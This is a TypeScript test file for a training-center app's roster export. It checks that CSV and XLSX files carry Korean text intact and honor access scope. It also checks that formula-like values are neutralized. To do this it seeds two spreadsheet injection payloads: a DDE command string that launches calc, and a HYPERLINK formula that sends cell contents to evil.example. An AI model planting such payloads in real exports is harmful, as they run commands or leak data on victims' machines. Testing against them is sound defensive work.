import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db/client";
import { ForbiddenError } from "@/lib/errors";
import type { CurrentUser } from "@/lib/auth/current-user";
import { addEnrollmentByStaff } from "@/lib/enrollments/enrollments.service";
import { createTestSession } from "@/lib/enrollments/enrollments.test-helpers";
import { createPartnerOrganization, createTestUser } from "@/lib/users/users.test-helpers";
import { buildRosterExport } from "@/lib/rosters/export";
import { readCsv, readXlsx } from "@/lib/rosters/spreadsheet.test-helpers";

/**
 * The roster files as a spreadsheet program sees them: generated from a real roster, read back
 * with exceljs, checked row by row — Korean text intact, formula-like names neutralized — and
 * scoped like the roster page.
 */

let admin: CurrentUser;
let teacher: CurrentUser;
let otherInstructor: CurrentUser;
let session: { id: string };
let courseCode: string;
let korean: CurrentUser;
let attacker: CurrentUser;
let waiting: CurrentUser;

beforeAll(async () => {
  admin = await createTestUser({ role: "ADMIN" });
  teacher = await createTestUser({ role: "INSTRUCTOR" });
  otherInstructor = await createTestUser({ role: "INSTRUCTOR" });
  const org = await db.organization.create({
    data: { name: "송도바이오로직스", nameEn: "Songdo Biologics", type: "COMPANY" },
    select: { id: true },
  });
  const evilOrg = await db.organization.create({
    data: { name: "+cmd|' /C calc'!A0", type: "COMPANY" },
    select: { id: true },
  });
  korean = await createTestUser({ name: "김민지", organizationId: org.id, email: "minji.kim@example.com" });
  attacker = await createTestUser({
    name: '=HYPERLINK("http://evil.example/?"&A1,"보기")',
    organizationId: evilOrg.id,
    email: "attacker@example.com",
  });
  waiting = await createTestUser({ name: "박서준", email: "seojun.park@example.com" });

  session = await createTestSession({ capacity: 2 });
  const course = await db.session.findUniqueOrThrow({
    where: { id: session.id },
    select: { course: { select: { code: true } } },
  });
  courseCode = course.course.code;
  await db.sessionInstructor.create({ data: { sessionId: session.id, userId: teacher.id, lead: true } });
  for (const person of [korean, attacker, waiting]) {
    await addEnrollmentByStaff(admin, { sessionId: session.id, userId: person.id, waitlistIfFull: true });
  }
  await db.enrollment.updateMany({
    where: { userId: korean.id, sessionId: session.id },
    data: { paymentStatus: "INVOICED", invoiceRef: "-FT-2026-0042" },
  });
});

const SEOUL_TIMESTAMP = /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/;

describe("roster CSV", () => {
  it("reads back in Korean: a BOM, a header, one row per enrollment, formulas neutralized", async () => {
    const file = await buildRosterExport(admin, session.id, "ko", "csv");
    expect(file?.contentType).toBe("text/csv; charset=utf-8");
    expect(file?.filename).toMatch(new RegExp(`^${courseCode}_\\d{4}-\\d{2}-\\d{2}_roster\\.csv$`));
    const bytes = Buffer.from(file!.body as string, "utf8");
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));

    const rows = await readCsv(file!.body as string);
    expect(rows[0]).toEqual([
      "이름",
      "이메일",
      "소속",
      "상태",
      "신청 경로",
      "대기 순번",
      "결제 상태",
      "청구서 번호",
      "신청 일시(Asia/Seoul)",
    ]);
    expect(rows).toHaveLength(4);
    const byEmail = Object.fromEntries(rows.slice(1).map((r) => [r[1], r]));
    expect(byEmail["minji.kim@example.com"]?.slice(0, 8)).toEqual([
      "김민지",
      "minji.kim@example.com",
      "송도바이오로직스",
      "확정",
      "센터 등록",
      "",
      "청구서 발행",
      "'-FT-2026-0042",
    ]);
    expect(byEmail["attacker@example.com"]?.slice(0, 3)).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"보기")`,
      "attacker@example.com",
      "'+cmd|' /C calc'!A0",
    ]);
    expect(byEmail["seojun.park@example.com"]?.slice(3, 6)).toEqual(["대기", "센터 등록", "1"]);
    for (const row of rows.slice(1)) expect(row[8]).toMatch(SEOUL_TIMESTAMP);
  });

  it("uses English labels and the English organization name for an English export", async () => {
    const file = await buildRosterExport(admin, session.id, "en", "csv");
    const rows = await readCsv(file!.body as string);
    expect(rows[0]?.slice(0, 4)).toEqual(["Name", "Email", "Organization", "Status"]);
    const minji = rows.find((r) => r[1] === "minji.kim@example.com");
    expect(minji?.slice(0, 7)).toEqual([
      "김민지",
      "minji.kim@example.com",
      "Songdo Biologics",
      "Confirmed",
      "Added by staff",
      "",
      "Invoiced",
    ]);
  });
});

describe("roster XLSX", () => {
  it("reads back with exceljs: the same rows, the waitlist position as a number, no formulas", async () => {
    const file = await buildRosterExport(teacher, session.id, "ko", "xlsx");
    expect(file?.contentType).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(file?.filename).toMatch(/_roster\.xlsx$/);
    const { sheet, rows } = await readXlsx(file!.body as Buffer);
    expect(sheet.name).toBe("수강생 명단");
    expect(rows[0]?.[0]).toBe("이름");
    expect(rows).toHaveLength(4);
    const byEmail = Object.fromEntries(rows.slice(1).map((r) => [String(r[1]), r]));
    expect(byEmail["minji.kim@example.com"]?.slice(0, 8)).toEqual([
      "김민지",
      "minji.kim@example.com",
      "송도바이오로직스",
      "확정",
      "센터 등록",
      null,
      "청구서 발행",
      "'-FT-2026-0042",
    ]);
    expect(byEmail["attacker@example.com"]?.[0]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"보기")`);
    expect(byEmail["attacker@example.com"]?.[2]).toBe("'+cmd|' /C calc'!A0");
    expect(byEmail["seojun.park@example.com"]?.[5]).toBe(1);
    for (const row of rows.slice(1)) expect(String(row[8])).toMatch(SEOUL_TIMESTAMP);
  });
});

describe("export scope", () => {
  it("gives nothing for a session outside the actor's scope, and refuses trainees and partners", async () => {
    expect(await buildRosterExport(otherInstructor, session.id, "ko", "csv")).toBeNull();
    expect(await buildRosterExport(otherInstructor, session.id, "ko", "xlsx")).toBeNull();
    expect(await buildRosterExport(admin, "no-such-session", "ko", "csv")).toBeNull();
    const partner = await createTestUser({
      role: "PARTNER",
      organizationId: (await createPartnerOrganization()).id,
    });
    await expect(buildRosterExport(korean, session.id, "ko", "csv")).rejects.toBeInstanceOf(ForbiddenError);
    await expect(buildRosterExport(partner, session.id, "ko", "xlsx")).rejects.toBeInstanceOf(ForbiddenError);
  });
});
